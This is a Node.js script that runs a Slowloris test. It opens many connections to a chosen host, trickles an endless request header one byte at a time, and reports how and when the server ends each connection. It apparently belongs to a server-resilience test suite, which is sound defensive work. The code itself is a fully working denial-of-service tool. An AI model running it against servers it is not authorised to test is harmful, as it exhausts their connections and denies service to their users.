#!/usr/bin/env node
// Slowloris: COUNT connections each sending a request head one byte every
// --interval seconds, never finishing it, until the server ends the
// connection or --seconds pass. Reports how each ended (the server's FIN,
// its RST, a response, or still open at the end) and how long after its
// first byte the server ended it.
import { options, run, Tally, spread, sleep } from "./client-main.mjs";
import { connect } from "./http-get.mjs";

const o = options("slowloris.mjs", "connections that send a request head one byte at a time", {
  host: { kind: "string", doc: "the server's address" },
  port: { kind: "int", default: 80, doc: "its TCP port" },
  count: { kind: "int", doc: "connections" },
  interval: { kind: "number", default: 5, doc: "seconds between two bytes of a connection" },
  seconds: { kind: "number", default: 60, doc: "how long to wait for the server to end them all" },
  concurrency: { kind: "int", default: 100, doc: "connects in flight at once while opening" },
  "connect-timeout-ms": { kind: "int", default: 5000, doc: "a connect not established by then counts as failed" },
  deadline: { kind: "int", default: 3600, doc: "seconds after which the run reports what it has and fails" },
});

// A head that never ends: after the request line and Host, a header line of 'a's.
const HEAD = Buffer.from(`GET / HTTP/1.1\r\nHost: ${o.host}\r\nX-Slow: ${"a".repeat(16384)}`);

await run("slowloris", o.deadline * 1000, async (partial) => {
  const ended = new Tally();
  const lifetimes = [];
  const statuses = new Tally();
  let connected = 0, live = 0, bytesSent = 0;
  partial(() => ({ count: o.count, connected, ended: ended.counts }));
  const t0 = performance.now();

  /** One slow connection; resolves when it has ended (or at the run's end). */
  const slow = async (s, stop) => {
    const first = performance.now();
    let at = 0, response = "";
    const outcome = await new Promise((resolve) => {
      const tick = () => {
        // The head is longer than any server's limit on one: the 431 comes before it runs out.
        if (s.destroyed || at >= HEAD.length) return;
        s.write(HEAD.subarray(at, at + 1));
        at++;
        bytesSent++;
      };
      tick();
      const timer = setInterval(tick, o.interval * 1000);
      const finish = (how) => { clearInterval(timer); resolve(how); };
      s.on("data", (d) => { response += d.toString("latin1"); });
      s.once("end", () => finish(response === "" ? "fin" : "response"));
      s.once("error", (e) => finish(e.code === "ECONNRESET" || e.code === "EPIPE" ? "reset" : e.code ?? e.message));
      stop.then(() => finish("open"));
    });
    if (outcome === "response") statuses.add(/^HTTP\/1\.[01] (\d{3})/.exec(response)?.[1] ?? "unparsed");
    if (outcome !== "open") lifetimes.push(performance.now() - first);
    ended.add(outcome);
    s.destroy();
  };

  let release;
  const stop = new Promise((r) => { release = r; });
  const running = [];
  let next = 0;
  const opener = async () => {
    while (next < o.count) {
      next++;
      try {
        const s = await connect(o.host, o.port, undefined, o["connect-timeout-ms"]);
        connected++;
        live++;
        running.push(slow(s, stop).then(() => { live--; }));
      } catch (e) {
        ended.add(`connect: ${e.code ?? e.message}`);
      }
    }
  };
  await Promise.all(Array.from({ length: Math.min(o.concurrency, o.count) }, opener));
  const openedMs = performance.now() - t0;
  process.stderr.write(`opened ${connected} of ${o.count}\n`);
  while (live > 0 && performance.now() - t0 < o.seconds * 1000) await sleep(50);
  release();
  await Promise.all(running);
  return { count: o.count, interval: o.interval, connected, openedMs, ended: ended.counts, responses: statuses.counts, bytesSent, lifetimeMs: spread(lifetimes), ms: performance.now() - t0 };
});
